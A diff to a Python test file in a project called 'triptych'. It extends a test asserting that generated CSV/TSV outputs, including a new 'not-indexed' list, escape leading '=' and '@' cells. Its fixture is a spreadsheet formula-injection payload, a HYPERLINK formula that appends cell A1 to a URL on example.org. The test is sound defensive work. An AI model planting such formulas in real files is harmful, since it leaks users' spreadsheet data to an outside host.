@@ -16,6 +16,8 @@ from triptych.data import manifest
 from triptych.data.noise import Swap, read_swaps, write_swaps
 from triptych.data.sources.draft import Draft, Item
 from triptych.data.sources.output import Origin, write
+from triptych.search.items import Skipped
+from triptych.search.not_indexed import write_list
 from triptych.studies.book import Finding, write_page
 
 LINK = '=HYPERLINK("http://example.org/?"&A1,"open")'
@@ -105,6 +107,9 @@ def test_other_tables_hold_no_formulas(tmp_path):
     suspect = Suspect(0, "wrong", ("audio", "text"), "text", None, 0.9, 0.1, -0.2, 0, None, 0.3)
     write_suspects(tmp_path / "suspects.csv", [suspect], rows)
     write_page(tmp_path, "study", "why?", "so", "x", Finding({"t": [{"a": LINK, "b": -1.5}]}, [], lambda figure: None))
+    write_list(tmp_path / "not-indexed.tsv", {}, [Skipped(Path(LINK), "@reason")])
+    assert "\n'=HYPERLINK" in (tmp_path / "not-indexed.tsv").read_text()
+    assert "\t'@reason" in (tmp_path / "not-indexed.tsv").read_text()
     for name in ("swaps.csv", "suspects.csv", "study.csv"):
         assert computed(tmp_path / name) == []
 
